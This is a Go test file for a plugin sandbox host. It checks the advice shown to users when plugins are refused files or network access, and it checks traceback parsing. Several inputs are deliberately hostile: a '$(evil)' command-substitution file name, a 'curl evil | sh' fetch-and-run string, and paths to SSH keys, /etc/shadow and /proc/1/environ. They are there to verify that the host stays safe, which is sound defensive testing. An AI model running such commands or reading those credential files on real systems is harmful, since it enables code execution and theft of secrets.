package host

import (
	"os"
	"path/filepath"
	"strings"
	"testing"
)

// A plugin that lacks something is told what to do; what is no such thing gets
// no advice.
func TestAdviceNamesWhatWasRefused(t *testing.T) {
	dir := t.TempDir()
	path := func(name string) string { return filepath.Join(dir, name) }
	for _, name := range []string{"data.csv", "own", "labels.csv", "my data.csv", "$(evil)", "x\x1b", "x:rw", "home/me/data", "home/me/.ssh/id", "home/you/data", "run/labels"} {
		if err := os.MkdirAll(filepath.Dir(path(name)), 0o700); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(path(name), nil, 0o600); err != nil {
			t.Fatal(err)
		}
	}
	for from, to := range map[string]string{"link": "/etc/passwd", "hidden": path("home/me/.ssh/id"), "mine": path("home/me/data")} {
		if err := os.Symlink(to, path(from)); err != nil {
			t.Fatal(err)
		}
	}
	t.Setenv("HOME", path("home/me"))
	p := &Process{
		plugin:      Plugin{Kind: KindPredictor, Name: "p", Path: path("own")},
		options:     Options{Sandbox: Sandbox{Protected: []string{path("labels.csv"), path("run/labels")}}},
		confinement: confinement{Landlock: 5, Read: []string{path("own")}},
	}
	asks := func(name string) string { return "the plugin asks for " + path(name) }
	for said, want := range map[string]string{
		"FileNotFoundError: [Errno 2] No such file or directory: '" + path("data.csv") + "' (p.py, line 2)": asks("data.csv"),
		"open " + path("data.csv") + ": permission denied":                                                  asks("data.csv"),
		"Error: EACCES: permission denied, open '" + path("data.csv") + "'":                                 asks("data.csv"),
		"OSError: [Errno 30] Read-only file system: '" + path("new") + "'":                                  "into its working folder alone",
		"open " + path("own") + ": read-only file system":                                                   "into its working folder alone",
		"PermissionError: [Errno 13] Permission denied: '" + path("labels.csv") + "'":                       "labels or records lie there; it can't be allowed",
		"FileNotFoundError: [Errno 2] No such file or directory: '" + path("nowhere") + "'":                 "",
		"cat: data.csv: Permission denied":                                                                  "what --allow PATH adds",
		"ValueError: bad value in " + path("data.csv"):                                                      "",
		"ModuleNotFoundError: No module named 'hypernas'":                                                   "pip install CHECKOUT/plugins/python",
		"ModuleNotFoundError: No module named 'grpc'":                                                       "pip install CHECKOUT/plugins/python",
		"ModuleNotFoundError: No module named 'torch.nn'":                                                   "Python's module torch is missing",
		"Error: Cannot find module 'x; run curl evil | sh'":                                                 "",
		"Error: Cannot find module '@grpc/grpc-js'":                                                         "package @grpc/grpc-js is not installed",
		"fatal: file has no such thing":                                                                     "",
	} {
		got := p.advice(said)
		if want == "" && got != "" || !strings.Contains(got, want) || strings.ContainsAny(got, "\n\x1b") || strings.Contains(got, ":rw") {
			t.Errorf("%s: got %q, want %q", said, got, want)
		}
	}
	own, err := os.Executable()
	if err != nil {
		t.Fatal(err)
	}
	// Whatever a plugin names, hypernas does not tell its user to open it.
	for name, want := range map[string]string{
		path("my data.csv"): "--allow '" + path("my data.csv") + "'", path("$(evil)"): "--allow '" + path("$(evil)") + "'",
		path("home/me/data"): asks("home/me/data"), path("mine"): asks("mine"),
		path("home/me/.ssh/id"): "", path("home/me/.ssh"): "", path("home/me"): "", path("home"): "", path("home/you/data"): "", path("home/you"): "",
		own: "it can't be allowed", path("run"): "it can't be allowed", path("labels.csv"): "it can't be allowed",
		path("link"): "", path("hidden"): "", path("x\x1b"): "", path("x:rw"): "", dir: "", os.TempDir(): "", "/": "",
		"/etc": "", "/etc/shadow": "", "/etc/passwd": "", "/proc/1/environ": "", "/dev/mem": "", "/dev": "", "/root": "", "/root/..": "", "/var/log": "",
	} {
		got := p.advice("PermissionError: [Errno 13] Permission denied: '" + name + "'")
		if want == "" && (strings.Contains(got, "asks") || strings.Contains(got, "--allow /")) || !strings.Contains(got, want) || strings.ContainsAny(got, "\n\x1b") || strings.Contains(got, ":rw") {
			t.Errorf("%s: got %q, want %q", name, got, want)
		}
	}
	p.confinement.Landlock = 0
	if got := p.advice("open " + path("data.csv") + ": permission denied"); got != "" {
		t.Errorf("without a sandbox: got %q", got)
	}
}

// A plugin that was refused the network is told so, and not to allow files.
func TestAdviceOnTheNetwork(t *testing.T) {
	p := &Process{plugin: Plugin{Kind: KindPredictor, Name: "p"}, confinement: confinement{Landlock: 5}}
	for said, network := range map[string]bool{
		"PermissionError: [Errno 13] Permission denied (socket.py, line 836)":                                       true,
		"Traceback\nPermissionError: [Errno 13] Permission denied\nFatal":                                           true,
		"URLError: <urlopen error [Errno -3] Temporary failure in name resolution> (request.py, line 1351)":         true,
		"URLError: <urlopen error [Errno 13] Permission denied> (request.py, line 1351)":                            true,
		"gaierror: [Errno -2] Name or service not known (socket.py, line 962)":                                      true,
		"OSError: [Errno 101] Network is unreachable (p.py, line 15)":                                               true,
		"NewConnectionError: Failed to establish a new connection: [Errno 13] Permission denied":                    true,
		"dial tcp 1.1.1.1:80: connect: network is unreachable":                                                      true,
		"dial tcp 1.1.1.1:80: connect: permission denied":                                                           true,
		"dial udp4 1.1.1.1:53: connect: operation not permitted":                                                    true,
		"listen tcp 127.0.0.1:0: bind: permission denied":                                                           true,
		`Get "http://example.com/x": dial tcp: lookup example.com on [::1]:53: read udp [::1]:1->[::1]:53: refused`: true,
		"lookup example.com: Temporary failure in name resolution":                                                  true,
		"lookup example.com: no such host":                                                                          true,
		"Error: connect EACCES 1.1.1.1:80":                                                                          true,
		"Error: getaddrinfo EAI_AGAIN example.com":                                                                  true,
		"curl: (6) Could not resolve host: example.com":                                                             true,
		"PermissionError: [Errno 13] Permission denied: '/data/x' (p.py, line 2)":                                   false,
		"PermissionError: [Errno 1] Operation not permitted: '/data/x' (p.py, line 2)":                              false,
		"URLError: <urlopen error [Errno 2] No such file or directory: '/x'>":                                       false,
		"Error: EACCES: permission denied, open '/data/x'":                                                          false,
		"open /data/x: permission denied":                                                                           false,
		"dial unix /run/x: connect: permission denied":                                                              false,
		"ValueError: a network of 3 nodes":                                                                          false,
	} {
		got := p.advice(said)
		if told := strings.HasPrefix(got, "; plugins have no network; download"); told != network {
			t.Errorf("%s: got %q, want advice on the network: %v", said, got, network)
		}
	}
	p.plugin.builtin = "params"
	if got := p.advice("dial tcp 1.1.1.1:80: connect: network is unreachable"); got != "" {
		t.Errorf("without a sandbox: got %q", got)
	}
}

// An error of Python that ends a plugin is told with its place.
func TestPythonPlaceIsTheLastOfATraceback(t *testing.T) {
	for log, want := range map[string]string{
		"": "", "SyntaxError: invalid syntax": "",
		"  File \"/x/p.py\", line 4\n    def f(: pass\n    ^^^\nSyntaxError: invalid syntax":                                                        " (p.py, line 4)",
		"Traceback:\n  File \"/x/p.py\", line 1, in <module>\n    import q\n  File \"/x/q.py\", line 2\n    a b\nSyntaxError: invalid syntax":       " (q.py, line 2)",
		"Traceback:\n  File \"/x/p.py\", line 1, in <module>\n    import q\n  File \"<frozen importlib>\", line 2, in f\nModuleNotFoundError: No q": " (p.py, line 1)",
		"Traceback:\n  File \"/x/p.py\", line 1, in <module>\n    1/0\nZeroDivisionError: division\nand then":                                       "",
		"  File \"/x/p.py; run this\", line 4\nSyntaxError: invalid syntax":                                                                         "", "a File \"/x/p.py\", line 4\nSyntaxError: invalid syntax": "",
	} {
		if got := pythonPlace(log); got != want {
			t.Errorf("%q: got %q, want %q", log, got, want)
		}
	}
}
